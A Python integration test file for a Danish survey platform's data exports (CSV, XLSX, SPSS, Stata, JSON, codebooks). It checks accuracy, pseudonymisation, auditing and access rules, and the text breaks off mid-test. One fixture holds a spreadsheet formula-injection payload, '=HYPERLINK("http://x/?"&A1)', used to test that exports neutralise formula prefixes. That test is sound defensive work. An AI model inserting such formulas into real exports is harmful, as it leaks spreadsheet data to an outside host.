"""Every export format read back and compared with the database, answer by answer."""

import csv
import io
import itertools
import json
import re
import zipfile
from datetime import UTC, date, datetime
from operator import itemgetter
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pyreadstat
import pytest
import sqlalchemy as sa

from survey.demo_answers import fill_round
from survey.exports import dataset, writers
from survey.exports.dataset import READ_PROGRESS, Filters, participant_count
from survey.exports.service import FORMATS, ExportError, build_export
from survey.extensions import db
from survey.instruments import get_registry
from survey.models import AgeBand, Answer, AuditEvent, Group, Participant, Round, Submission
from survey.participants import register_participants
from survey.pseudonyms import research_id
from tests.integration.conftest import COORDINATOR, EVALUATOR, save_elsewhere
from tests.integration.exports import expected

INJECTION = '=HYPERLINK("http://x/?"&A1)'


@pytest.fixture
def demo(demo):
    """The demo study with its seeded baseline, and a site whose name starts a formula."""
    demo.sites[0].name = INJECTION
    db.session.commit()
    return demo


def baseline(study):
    return next(round_ for round_ in study.rounds if round_.name == "baseline")


def export_text(filters, export_format, language="da"):
    export = build_export(filters, export_format, actor_user_id=None, language=language)
    db.session.commit()
    return "".join(export.chunks)


def export_events():
    return db.session.scalar(
        sa.select(sa.func.count())
        .select_from(AuditEvent)
        .where(AuditEvent.action == "export.download")
    )


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def number(cell):
    return None if cell in ("", None) else int(cell)


def export_file(filters, export_format, tmp_path):
    export = build_export(filters, export_format, actor_user_id=None)
    db.session.commit()
    target = Path(tmp_path) / export.filename
    Path(export.path).rename(target)
    return target


def test_long_csv_matches_the_database(app, demo):
    round_ = baseline(demo)
    text = export_text(Filters(demo, round_), "csv-long")
    assert text.startswith("\ufeff")
    rows = csv_rows(text)
    assert list(rows[0]) == expected.LONG_COLUMNS
    answered = [row for row in rows if row["item"]]
    got = {(row["research_id"], row["item"]): int(row["value"]) for row in answered}
    assert len(got) == len(answered)
    assert got == expected.as_given(app, demo, round_)
    assert {row["missing"] for row in rows} >= set(expected.MISSING)
    assert all(row["started_on"] and "T" not in row["started_on"] for row in rows)
    # Each submission's answers by questionnaire, then item (not by item name alone: staff
    # competence's sk_ items sort before situations_staff's ss_ ones).
    by_submission = [
        [(row["instrument"], row["item"]) for row in given]
        for _submission, given in itertools.groupby(
            answered, key=itemgetter("research_id", "round")
        )
    ]
    assert len(by_submission) == len({(row["research_id"], row["round"]) for row in answered})
    assert all(order == sorted(order) for order in by_submission)
    # The row count the download and the audit log state: every answer, and one row for each
    # submission without any (the declined ones here).
    export = build_export(Filters(demo, round_), "csv-long", actor_user_id=None)
    db.session.commit()
    without_answers = sum(1 for row in rows if not row["item"])
    assert without_answers > 0
    assert export.rows == len(rows) == len(answered) + without_answers
    wide = expected.wide_values(app, demo, round_)
    for row in answered:
        if row["scale"] in expected.RUNG:
            key = (row["research_id"], row["item"])
            assert number(row["harmonised"]) == wide[key]
            assert number(row["common"]) == wide[(key[0], f"{row['item']}_any")]
        else:
            assert row["harmonised"] == row["value"] and row["common"] == ""


def test_every_format_holds_the_same_submissions_declined_included(app, demo, tmp_path):
    round_ = baseline(demo)
    filters = Filters(demo, round_)
    statuses = expected.submissions(app, demo, round_)
    assert "declined" in statuses.values()
    long = {
        (row["research_id"], row["status"]) for row in csv_rows(export_text(filters, "csv-long"))
    }
    wide = [
        (row["research_id"], row["status"]) for row in csv_rows(export_text(filters, "csv-wide"))
    ]
    document = json.loads(export_text(filters, "json"))
    in_json = [(s["research_id"], s["status"]) for s in document["submissions"]]
    frame, _meta = pyreadstat.read_sav(str(export_file(filters, "sav", tmp_path)))
    in_sav = list(zip(frame["research_id"], frame["status"], strict=True))
    assert long == set(wide) == set(in_json) == set(in_sav) == set(statuses.items())
    assert len(wide) == len(in_json) == len(in_sav) == len(statuses)
    declined = [s for s in document["submissions"] if s["status"] == "declined"]
    assert declined and all(s["answers"] == [] for s in declined)


def test_participation_lists_everyone_registered_including_never_started(app, demo):
    rows = csv_rows(export_text(Filters(demo), "participation"))
    assert list(rows[0]) == expected.PARTICIPATION_COLUMNS
    got = {(row["research_id"], row["round"]): row["status"] for row in rows}
    assert len(got) == len(rows)
    assert got == expected.participation(app, demo)
    assert {"not_started", "completed", "declined", "in_progress"} <= set(got.values())
    children = [row for row in rows if row["group"] == "child"]
    assert children and all(row["age_band"] in ("6-9", "10-12", "13-18") for row in children)


def test_participation_rows_come_by_round_then_site_then_person(app, demo):
    register_participants(demo.sites[0], Group.STAFF, 1)  # registered last, listed with its site
    db.session.commit()
    rows = csv_rows(export_text(Filters(demo), "participation"))
    key = app.config["PSEUDONYM_KEY"]
    people = db.session.execute(
        sa.select(Participant.site_id, Participant.id).where(Participant.study_id == demo.id)
    ).all()
    rounds = db.session.execute(sa.select(Round.id, Round.name).where(Round.study_id == demo.id))
    want = [
        (round_name, research_id(demo.id, person_id, key))
        for _round_id, round_name in sorted(rounds)
        for _site_id, person_id in sorted(people)
    ]
    assert [(row["round"], row["research_id"]) for row in rows] == want


def test_wide_csv_matches_the_database_and_has_scores(app, demo):
    round_ = baseline(demo)
    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
    wide = expected.wide_values(app, demo, round_)
    got = {
        (row["research_id"], column): number(row[column])
        for row in rows
        for column in row
        if (row["research_id"], column) in wide
    }
    assert got == wide
    items = [column for column in expected.WIDE_COLUMNS if re.match(r"^[a-z]{2}_\d\d", column)]
    filled = {(row["research_id"], column) for row in rows for column in items if row[column]}
    assert filled == {key for key, value in wide.items() if value is not None}
    assert len(rows) == len(expected.submissions(app, demo, round_))
    assert any(row["cw_wellbeing"] for row in rows)
    assert all(1 <= float(row["sw_wellbeing"]) <= 5 for row in rows if row["sw_wellbeing"])
    assert {
        row["scale_steps"]
        for row in rows
        if row["group"] == "child" and row["status"] != "declined"
    } == {"2", "3", "5"}


@pytest.mark.parametrize(
    ("suffix", "allowed"),
    [("_any", {1, 2}), ("_r5", {1, 2, 3, 4, 5}), ("_r3", {1, 2, 3}), ("_r2", {1, 2})],
)
def test_each_child_variable_holds_codes_of_one_scale(app, demo, suffix, allowed):
    rows = csv_rows(export_text(Filters(demo, baseline(demo), group=Group.CHILD), "csv-wide"))
    names = [c for c in expected.WIDE_COLUMNS if re.match(rf"^(cw|ci|sc)_\d\d{suffix}$", c)]
    assert len(names) == 24
    values = {number(row[name]) for row in rows for name in names} - {None}
    assert values - {-1, -2, -3} == allowed


def test_only_allow_listed_columns_and_no_identifiers(app, demo):
    round_ = baseline(demo)
    expected_headers = {
        "csv-long": expected.LONG_COLUMNS,
        "csv-wide": expected.WIDE_COLUMNS,
        "participation": expected.PARTICIPATION_COLUMNS,
    }
    for export_format, columns in expected_headers.items():
        text = export_text(Filters(demo, round_), export_format)
        header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        assert header == columns
        for participant in db.session.scalars(sa.select(Participant)):
            assert participant.code_hash not in text
            assert f",{participant.label}," not in text if participant.label else True


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_is_neutralised_in_csv(app, demo, prefix):
    demo.sites[0].name = prefix + "1+1"
    db.session.commit()
    for export_format in ("csv-long", "csv-wide", "participation"):
        rows = list(
            csv.reader(io.StringIO(export_text(Filters(demo, baseline(demo)), export_format)))
        )
        sites = {row[1] for row in rows[1:]}
        assert "'" + prefix + "1+1" in sites
        assert prefix + "1+1" not in sites


def test_xlsx_keeps_text_as_text(app, demo, tmp_path):
    round_ = baseline(demo)
    path = export_file(Filters(demo, round_), "xlsx", tmp_path)
    workbook = openpyxl.load_workbook(path, read_only=True)
    cells = [row[1] for row in workbook["data"].iter_rows(min_row=2, values_only=True)]
    assert INJECTION in cells  # shown as the text it is, without a prefix ...
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/" in name]
    assert not any("<f>" in sheet for sheet in sheets)  # ... never run ...
    # ... and stored as text a spreadsheet program can read: an inline string, no other type.
    assert f"<is><t>{escape(INJECTION)}</t></is>" in sheets[0]
    assert set(re.findall(r' t="([^"]*)"', "".join(sheets))) == {"inlineStr", "n"}
    codebook = list(workbook["codebook"].iter_rows(values_only=True))
    assert codebook[0] == ("variable", "label", "values")
    assert len(codebook) > 100
    values = next(row[2] for row in codebook if row[0] == "cw_04_r3")
    assert values == (
        "-3 = Ikke vist; -2 = Ved ikke; -1 = Vil ikke svare; 1 = Aldrig; 2 = Nogle gange; 3 = Tit"
    )
    assert not any(str(cell).startswith("'") for row in codebook for cell in row if cell)


def test_xlsx_matches_the_database(app, demo, tmp_path):
    round_ = baseline(demo)
    export = build_export(Filters(demo, round_), "xlsx", actor_user_id=None)
    db.session.commit()
    workbook = openpyxl.load_workbook(export.path, read_only=True)
    rows = list(workbook["data"].iter_rows(values_only=True))
    submissions = db.session.scalar(
        sa.select(sa.func.count(Submission.id)).where(Submission.round_id == round_.id)
    )
    assert export.rows == len(rows) - 1 == submissions  # the count the audit log records
    Path(export.path).unlink()
    header, body = rows[0], rows[1:]
    assert list(header) == expected.WIDE_COLUMNS
    wide = expected.wide_values(app, demo, round_)
    got = {
        (row[0], column): value
        for row in body
        for column, value in zip(header, row, strict=False)
        if (row[0], column) in wide
    }
    assert got == wide


@pytest.mark.parametrize("kind", ["sav", "dta"])
def test_spss_and_stata_files_carry_labels_values_and_dates(app, demo, tmp_path, kind):
    round_ = baseline(demo)
    path = export_file(Filters(demo, round_), kind, tmp_path)
    if kind == "sav":
        frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    else:
        frame, meta = pyreadstat.read_dta(str(path), user_missing=True)
    labels = meta.column_names_to_labels
    assert labels["cw_01"] == "Er du glad for at bo her? (5-punktsskala)"
    assert labels["cw_01_r3"] == "Er du glad for at bo her? (som svaret med 3 svarmuligheder)"
    assert labels["sk_01"].startswith("Jeg kan se de tidlige tegn")
    value_labels = meta.variable_value_labels
    assert value_labels["sk_01"][5] == "Helt enig"
    assert value_labels["cw_04"] == {
        **({-1: "Vil ikke svare", -2: "Ved ikke", -3: "Ikke vist"} if kind == "sav" else {}),
        **({"a": "Vil ikke svare", "b": "Ved ikke", "c": "Ikke vist"} if kind == "dta" else {}),
        **dict(enumerate(expected.FIVE_POINT_LABELS["frequency"], start=1)),
    }
    wide = expected.wide_values(app, demo, round_)
    stata = {"a": -1, "b": -2, "c": -3}
    got = {}
    for _index, row in frame.iterrows():
        for column in frame.columns:
            if (row["research_id"], column) in wide:
                cell = row[column]
                got[(row["research_id"], column)] = (
                    stata[cell] if isinstance(cell, str) else None if cell != cell else int(cell)
                )
    assert got == wide
    if kind == "sav":
        assert meta.missing_ranges["cw_04"] == [
            {"lo": -3.0, "hi": -3.0},
            {"lo": -2.0, "hi": -2.0},
            {"lo": -1.0, "hi": -1.0},
        ]
    else:
        # Stata's missing values are the same in every variable; the reader lists those in use.
        used = {code for codes in meta.missing_user_values.values() for code in codes}
        assert used == {"a", "b", "c"}
        assert {"a", "b"} <= set(meta.missing_user_values["sk_04"])
    # What Stata's `summarize` and SPSS's DESCRIPTIVES average: answers only.
    given = [
        v for (_rid, item), v in expected.as_given(app, demo, round_).items() if item == "sk_04"
    ]
    answered = [value for value in given if value > 0]
    assert len(answered) < len(given)
    numbers = [cell for cell in frame["sk_04"] if not isinstance(cell, str) and cell == cell]
    if kind == "sav":
        numbers = [cell for cell in numbers if cell > 0]  # user-missing, as SPSS leaves them out
    assert sum(numbers) / len(numbers) == pytest.approx(sum(answered) / len(answered))
    dates = dict(zip(frame["research_id"], frame["started_on"], strict=True))
    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
    assert {rid: day.isoformat() for rid, day in dates.items()} == {
        row["research_id"]: row["started_on"] for row in rows
    }


def test_json_groups_answers_by_submission(app, demo):
    round_ = baseline(demo)
    text = export_text(Filters(demo, round_), "json")
    document = json.loads(text)
    assert document["export"]["study"] == "demo"
    # Danish letters as themselves (UTF-8), not as \u escapes.
    round_.name = "førmåling"
    for site in demo.sites:
        site.name = f"Bøgehøj {site.id}"
    db.session.commit()
    text = export_text(Filters(demo, round_), "json")
    assert text.startswith('{"export": {"study": "demo", "round": "førmåling"')  # header too
    assert "Bøgehøj" in text and "\\u00f8" not in text
    got = {
        (submission["research_id"], answer["item"]): answer["value"]
        for submission in document["submissions"]
        for answer in submission["answers"]
    }
    assert got == expected.as_given(app, demo, round_)


def test_rounds_export_has_one_row_per_participant_with_round_suffixes(app, demo):
    # Give one participant an answer in the follow-up too.
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    participant = db.session.scalars(sa.select(Participant)).first()
    submission = Submission(participant=participant, round=follow_up)
    submission.answers.append(
        Answer(
            instrument_key="child_wellbeing",
            instrument_version=1,
            item_id="cw_01",
            scale="faces5_amount",
            value=4,
        )
    )
    db.session.add(submission)
    db.session.commit()
    rows = list(
        csv.DictReader(io.StringIO(export_text(Filters(demo), "csv-rounds").lstrip("\ufeff")))
    )
    assert "cw_01_baseline" in rows[0] and "cw_01_follow_up" in rows[0]
    ids = [row["research_id"] for row in rows]
    assert len(ids) == len(set(ids))
    key = app.config["PSEUDONYM_KEY"]
    mine = next(
        row for row in rows if row["research_id"] == research_id(demo.id, participant.id, key)
    )
    assert mine["cw_01_follow_up"] == "4"


def test_bundle_holds_every_part(app, demo, tmp_path):
    path = export_file(Filters(demo, baseline(demo)), "bundle", tmp_path)
    with zipfile.ZipFile(path) as bundle:
        names = set(bundle.namelist())
        assert names == {
            "data-long.csv",
            "data-wide.csv",
            "participation.csv",
            "value-labels.csv",
            "data.sav",
            "data.dta",
            "codebook.md",
            "read-data.R",
        }
        assert "read.csv" in bundle.read("read-data.R").decode()
        assert "cw_01" in bundle.read("codebook.md").decode()
        bundle.extract("data.sav", tmp_path)
    frame, _meta = pyreadstat.read_sav(str(tmp_path / "data.sav"))
    assert len(frame) > 40


def test_filters_narrow_the_export(app, demo):
    round_ = baseline(demo)
    site = demo.sites[1]
    text = export_text(Filters(demo, round_, site=site, instrument="staff_wellbeing"), "csv-long")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows
    assert {row["site"] for row in rows} == {site.name}
    assert {row["group"] for row in rows} == {"staff"}  # only those given the questionnaire
    assert {row["instrument"] for row in rows if row["item"]} == {"staff_wellbeing"}


EVERY_FORMAT = (
    "csv-long", "csv-wide", "csv-rounds", "xlsx", "sav", "dta", "json", "participation",
    "codebook", "bundle",
)  # fmt: skip


def test_every_export_is_audited(app, demo):
    for export_format in EVERY_FORMAT:
        export = build_export(Filters(demo, baseline(demo)), export_format, actor_user_id=None)
        if export.path:
            Path(export.path).unlink()
    db.session.commit()
    events = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "export.download")
    ).all()
    assert sorted(event.details["format"] for event in events) == sorted(EVERY_FORMAT)
    assert all(
        event.details["round"] == "baseline" and event.details["rows"] > 0 for event in events
    )


def test_the_second_versions_export_in_every_format(app, demo):
    # The demo's follow-up asks the second versions: shares with an event and rates per shift.
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    fill_round(follow_up, [p for site in demo.sites for p in site.participants], get_registry())
    db.session.commit()
    for export_format in EVERY_FORMAT:
        export = build_export(Filters(demo, follow_up), export_format, actor_user_id=None)
        assert export.rows > 0, export_format
        if export.path:
            assert Path(export.path).stat().st_size > 0, export_format
            Path(export.path).unlink()
        else:  # a streamed format is written as it is read
            assert "".join(export.chunks).strip(), export_format
    text = export_text(Filters(demo, follow_up), "codebook")
    assert "- `ss_situations_any` — Voldsomme situationer: andel med mindst én: mindst én" in text


def test_export_page_downloads_with_no_store_and_a_named_file(sign_in, demo_staff, demo):
    client = sign_in(EVALUATOR)
    round_ = baseline(demo)
    assert client.get(f"/admin/exports/{demo.id}").status_code == 200
    response = client.post(
        f"/admin/exports/{demo.id}",
        data={
            "round_id": str(round_.id),
            "site_id": "",
            "group": "",
            "instrument": "",
            "export_format": "sav",
        },
    )
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    # A plain name needs no quotes (Werkzeug quotes only where the name would need them).
    assert disposition == f"attachment; filename=demo_baseline_sav_{date.today().isoformat()}.sav"

    response.close()
    events = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "export.download")
    ).all()
    assert events[-1].actor_user_id is not None


def test_export_page_warns_about_small_groups(sign_in, demo_staff, demo):
    study_id = demo.id
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    data = {
        "round_id": str(follow_up.id),
        "site_id": "",
        "group": "",
        "instrument": "",
        "export_format": "csv-long",
    }
    client = sign_in(EVALUATOR)
    response = client.post(f"/admin/exports/{study_id}", data=data)
    assert response.status_code == 422
    assert "færre end 5" in response.get_data(as_text=True)
    assert export_events() == 0
    response = client.post(f"/admin/exports/{study_id}", data={**data, "small_group_ok": "y"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.get_data(as_text=True).startswith("\ufeffresearch_id,")


def test_coordinators_and_anonymous_visitors_cannot_export(sign_in, demo_staff, demo, client):
    coordinator = sign_in(COORDINATOR)
    assert coordinator.get(f"/admin/exports/{demo.id}").status_code == 403
    assert (
        coordinator.post(
            f"/admin/exports/{demo.id}", data={"export_format": "csv-long"}
        ).status_code
        == 403
    )
    assert client.get(f"/admin/exports/{demo.id}").status_code == 302
    assert export_events() == 0


@pytest.mark.parametrize(("export_format", "passes"), [("csv-long", 1), ("sav", 1), ("bundle", 4)])
def test_an_export_tells_how_many_submissions_it_has_read(demo, export_format, passes, monkeypatch):
    # What `survey export`'s progress bar counts: every submission of the filters, once per
    # pass over them (the bundle writes the long and wide CSVs, the .sav and the .dta).
    round_ = baseline(demo)
    submissions = db.session.scalar(
        sa.select(sa.func.count()).select_from(Submission).where(Submission.round_id == round_.id)
    )
    monkeypatch.setattr(dataset, "CHUNK", 7)  # several chunks, each told
    read: list[int] = []
    following = READ_PROGRESS.set(read.append)
    try:
        export = build_export(Filters(demo, round_), export_format, actor_user_id=None)
        "".join(export.chunks or ())
    finally:
        READ_PROGRESS.reset(following)
    assert sum(read) == passes * submissions
    assert len(read) == passes * -(-submissions // 7)
    assert FORMATS[export_format].passes == passes  # the bar's length: as many as are read


def test_cli_export_writes_the_file(runner, demo, tmp_path):
    out = tmp_path / "export.csv"
    result = runner.invoke(
        args=[
            "export",
            "--study",
            "demo",
            "--round",
            "baseline",
            "--format",
            "csv-wide",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert "Submissions read" in result.output  # the progress bar's label, without a terminal
    assert out.read_text(encoding="utf-8-sig").startswith("research_id,")
    codebook = (tmp_path / "export.csv-wide.codebook.md").read_text(encoding="utf-8")
    assert codebook.startswith("# Kodebog") and "`cw_01_r3`" in codebook
    bad = runner.invoke(
        args=["export", "--study", "nope", "--format", "csv-wide", "--out", str(out)]
    )
    assert bad.exit_code == 2
    assert "No study 'nope'" in bad.output
    # The site's staff who answered the baseline, counted here: fewer than a MIN_CELL of 10.
    people = db.session.scalar(
        sa.select(sa.func.count(sa.distinct(Submission.participant_id)))
        .join(Participant)
        .join(Round)
        .where(
            Round.name == "baseline",
            Participant.site_id == demo.sites[0].id,
            Participant.group == Group.STAFF,
        )
    )
    assert 0 < people < 10
    runner.app.config["MIN_CELL"] = 10
    small = runner.invoke(
        args=[
            "export",
            "--study",
            "demo",
            "--round",
            "baseline",
            "--site",
            str(demo.sites[0].id),
            "--group",
            "staff",
            "--format",
            "csv-long",
            "--out",
            str(out),
        ]
    )
    assert small.exit_code == 0
    assert f"Warning: the filters leave {people} participants, fewer than MIN_CELL." in (
        small.output
    )
    assert "Warning" not in result.output  # the whole study is no small group


def test_round_filter_keeps_other_rounds_out(app, demo):
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    assert export_text(Filters(demo, follow_up), "csv-long").count("\r\n") == 1  # header only
    assert isinstance(follow_up, Round)


def test_filters_matching_no_questionnaire_are_refused(app, demo, runner, tmp_path):
    filters = Filters(demo, baseline(demo), group=Group.STAFF, instrument="child_wellbeing")
    with pytest.raises(ExportError, match="No questionnaire 'child_wellbeing' was given for staff"):
        build_export(filters, "csv-wide", actor_user_id=None)
    out = tmp_path / "x.csv"
    result = runner.invoke(
        args=[
            *("export", "--study", "demo", "--round", "baseline", "--group", "staff"),
            *("--instrument", "child_wellbeing", "--format", "sav", "--out", str(out)),
        ]
    )
    assert result.exit_code == 2
    assert result.output.startswith("Error: No questionnaire 'child_wellbeing'")
    assert not out.exists()
    assert export_events() == 0


def test_export_page_explains_filters_matching_no_questionnaire(sign_in, demo_staff, demo):
    client = sign_in(EVALUATOR)
    data = {
        "round_id": str(baseline(demo).id),
        "site_id": "",
        "group": "staff",
        "instrument": "child_wellbeing",
        "export_format": "sav",
        "language": "da",
    }
    response = client.post(f"/admin/exports/{demo.id}", data=data)
    assert response.status_code == 422
    assert "Intet spørgeskema passer til disse valg" in response.get_data(as_text=True)


def test_sidecar_codebooks_are_named_per_format_and_speak_english_on_request(
    runner, demo, tmp_path
):
    for export_format in ("csv-long", "csv-wide", "sav"):
        result = runner.invoke(
            args=[
                *("export", "--study", "demo", "--round", "baseline", "--lang", "en"),
                *("--format", export_format, "--out", str(tmp_path / f"demo.{export_format}")),
            ]
        )
        assert result.exit_code == 0, result.output
    names = sorted(path.name for path in tmp_path.glob("*.codebook.md"))
    assert names == [
        "demo.csv-long.codebook.md",
        "demo.csv-wide.codebook.md",
        "demo.sav.codebook.md",
    ]
    codebook = (tmp_path / "demo.sav.codebook.md").read_text(encoding="utf-8")
    assert codebook.startswith("# Codebook")
    assert (
        "| `cw_04_r3` | Do the adults help you when you are sad? (as answered on 3 choices) |"
        in codebook
    )
    _frame, meta = pyreadstat.read_sav(str(tmp_path / "demo.sav"))
    assert meta.variable_value_labels["cw_04"][4] == "Often"


def test_codebook_documents_every_column_and_score(app, demo):
    text = export_text(Filters(demo, baseline(demo)), "codebook")
    for column in [*expected.LONG_COLUMNS, *expected.WIDE_COLUMNS, *expected.PARTICIPATION_COLUMNS]:
        assert f"`{column}`" in text, column
    assert (
        "- `ss_force` — Magtanvendelse: sum (forholdsmæssigt opregnet) af `ss_05`; mindst 100 % "
        "besvaret; interval 1–5; højere er værre"
    ) in text
    assert "højere er bedre" in text
    english = export_text(Filters(demo, baseline(demo)), "codebook", language="en")
    assert "## Scale scores" in english and "higher is worse" in english


def test_sav_variable_labels_keep_up_to_256_bytes(app, demo, tmp_path):
    path = export_file(Filters(demo, baseline(demo)), "sav", tmp_path)
    _frame, meta = pyreadstat.read_sav(str(path))
    label = "Har en voksen her holdt fast i dig de sidste 4 uger? (som svaret med 5 svarmuligheder)"
    assert len(label) > 80
    assert meta.column_names_to_labels["sc_04_r5"] == label


def test_a_wide_export_of_one_questionnaire_holds_all_of_its_answers(app, demo):
    # situations_child sorts after the other child questionnaires: the answers to those,
    # which this export leaves out, come first for every child and must not end the row.
    round_ = baseline(demo)
    rows = csv_rows(export_text(Filters(demo, round_, instrument="situations_child"), "csv-wide"))
    wanted = {
        key: value
        for key, value in expected.wide_values(app, demo, round_).items()
        if key[1].startswith("sc_") and not key[1].startswith("sc_situations")
    }
    got = {
        (row["research_id"], column): number(row[column])
        for row in rows
        for column in row
        if (row["research_id"], column) in wanted
    }
    assert len(wanted) > 50
    assert got == wanted


def test_people_are_counted_once_however_many_rounds_they_answered(app, demo):
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    baseline = db.session.scalars(sa.select(Submission)).all()
    db.session.add_all(
        Submission(participant_id=submission.participant_id, round_id=follow_up.id)
        for submission in baseline[:3]
    )
    db.session.flush()
    people = {submission.participant_id for submission in db.session.scalars(sa.select(Submission))}
    assert len(people) == len(baseline)  # three answered both rounds
    assert participant_count(Filters(demo)) == len(baseline)
    assert participant_count(Filters(demo, follow_up)) == 3


def test_the_page_and_the_command_offer_every_format_in_one_order(
    sign_in, demo_staff, runner, demo
):
    html = sign_in(EVALUATOR).get(f"/admin/exports/{demo.id}").get_data(as_text=True)
    select = html[
        html.index('name="export_format"') : html.index(
            "</select>", html.index('name="export_format"')
        )
    ]
    assert re.findall(r'<option[^>]*value="([\w-]+)"', select) == list(EVERY_FORMAT)
    assert '<option value="xlsx">Excel (XLSX) med et ark med kodebogen</option>' in select
    help_text = runner.invoke(args=["export", "--help"]).output
    assert "[" + "|".join(EVERY_FORMAT) + "]" in help_text.replace("\n", "").replace(" ", "")


def test_an_exports_audit_record_names_every_filter(app, demo):
    site = demo.sites[1]
    filters = Filters(demo, baseline(demo), site, Group.STAFF, "staff_wellbeing")
    build_export(filters, "csv-wide", actor_user_id=None, language="en")
    event = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "export.download")
    ).one()
    assert event.details == {
        "study": "demo",
        "round": "baseline",
        "site_id": site.id,
        "group": "staff",
        "instrument": "staff_wellbeing",
        "format": "csv-wide",
        "rows": event.details["rows"],
        "language": "en",
    }
    staff = {p.id for p in site.participants if p.group is Group.STAFF}
    answered = db.session.scalars(
        sa.select(Submission).where(
            Submission.round_id == baseline(demo).id, Submission.participant_id.in_(staff)
        )
    ).all()
    assert event.details["rows"] == len(answered) > 0


@pytest.mark.parametrize(
    ("export_format", "instrument"),
    [("csv-long", "staff_wellbeing"), ("csv-long", None), ("csv-wide", "child_wellbeing")],
)
def test_the_row_count_said_is_the_rows_written(app, demo, export_format, instrument):
    filters = Filters(demo, baseline(demo), instrument=instrument)
    export = build_export(filters, export_format, actor_user_id=None)
    written = csv_rows("".join(export.chunks))
    assert export.rows == len(written) > 0
    if instrument:
        assert {row.get("instrument", instrument) for row in written if row.get("item")} <= {
            instrument
        }


def test_an_export_of_a_round_nobody_answered_says_zero_rows(app, demo):
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    for export_format in ("csv-long", "csv-wide"):
        export = build_export(Filters(demo, follow_up), export_format, actor_user_id=None)
        assert (export.rows, csv_rows("".join(export.chunks))) == (0, [])


def test_the_sav_file_is_bytecode_compressed(app, demo, tmp_path):
    path = export_file(Filters(demo, baseline(demo)), "sav", tmp_path)
    header = path.read_bytes()[:76]
    # The system file header: "$FL2", the product name, layout code, case size, compression.
    assert header[:4] == b"$FL2"
    assert int.from_bytes(header[72:76], "little") == 1  # 1 = bytecode compression


@pytest.mark.parametrize(("group", "explained"), [(Group.CHILD, True), (Group.STAFF, False)])
def test_codebook_explains_the_childrens_answer_rungs_only_where_there_are_some(
    app, demo, group, explained
):
    text = export_text(Filters(demo, baseline(demo), group=group), "codebook")
    assert ("Børn svarer på 5, 3 eller 2 svarmuligheder." in text) is explained


def test_each_submissions_setup_is_exported_as_stored(app, demo):
    round_ = baseline(demo)
    stored = {
        research_id(demo.id, submission.participant_id, app.config["PSEUDONYM_KEY"]): submission
        for submission in db.session.scalars(
            sa.select(Submission).where(Submission.round_id == round_.id)
        )
    }
    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
    assert len(rows) == len(stored)
    for row in rows:
        submission = stored[row["research_id"]]
        for column in ("assistance_mode", "layout", "language"):
            value = getattr(submission, column)
            assert row[column] == (value.value if value else ""), column
    assert {row["assistance_mode"] for row in rows} - {""}  # children's modes are there


def test_dates_are_danish_dates_not_the_servers(app, demo):
    round_ = baseline(demo)
    submission = db.session.scalars(
        sa.select(Submission).where(Submission.round_id == round_.id)
    ).first()
    submission.started_at = datetime(2026, 3, 1, 23, 30, tzinfo=UTC)  # 00:30 in Copenhagen
    db.session.commit()
    person = research_id(demo.id, submission.participant_id, app.config["PSEUDONYM_KEY"])
    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
    [row] = [row for row in rows if row["research_id"] == person]
    assert row["started_on"] == "2026-03-02"


def test_a_young_childs_score_counts_only_the_items_asked_at_their_age(app, demo):
    # Children aged 6-9 are asked 4 of the 8 inclusion items: 3 or 4 answered are enough for
    # a score (60 % needed), although they are fewer than 60 % of all 8 items.
    on_five_steps = {1: 1, 2: 3, 3: 4}  # the 3-step faces' meaning (scales.yaml, frequency)
    round_ = baseline(demo)
    answers = db.session.execute(
        sa.select(Submission.participant_id, Answer.scale, Answer.value)
        .join(Answer, Answer.submission_id == Submission.id)
        .join(Participant, Participant.id == Submission.participant_id)
        .where(
            Submission.round_id == round_.id,
            Participant.age_band == AgeBand.AGE_6_9,
            Answer.instrument_key == "child_inclusion",
        )
    ).all()
    values: dict[int, list[int]] = {}
    for participant_id, scale, value in answers:
        assert scale == "faces3_freq"  # the demo's young children all use 3 faces
        values.setdefault(participant_id, [])
        if value is not None:
            values[participant_id].append(on_five_steps[value])
    key = app.config["PSEUDONYM_KEY"]
    wanted = {
        research_id(demo.id, participant_id, key): sum(given) / len(given)
        for participant_id, given in values.items()
        if len(given) >= 3
    }
    rows = csv_rows(export_text(Filters(demo, round_), "csv-wide"))
    got = {row["research_id"]: row["ci_inclusion"] for row in rows if row["research_id"] in wanted}
    assert len(wanted) >= 5  # the demo has such children
    assert {rid: float(value) for rid, value in got.items()} == pytest.approx(wanted)


@pytest.mark.parametrize("export_format", ["sav", "csv-long"])
def test_answers_are_saved_while_an_export_is_read(demo, export_format, monkeypatch):
    # A national export reads for many seconds; on SQLite a transaction that took the write
    # lock for it would make every respondent's save wait and then fail ("database is locked").
    saved = []
    write = writers.write_stats_file

    def write_and_save(*args, **kwargs):  # type: ignore[no-untyped-def]
        save_elsewhere()  # in the middle of the export's reading
        saved.append(export_format)
        return write(*args, **kwargs)

    monkeypatch.setattr(writers, "write_stats_file", write_and_save)
    export = build_export(Filters(demo, baseline(demo)), export_format, actor_user_id=None)
    db.session.commit()  # as the page and the command do before the file is sent
    if export.chunks is not None:
        chunks = iter(export.chunks)
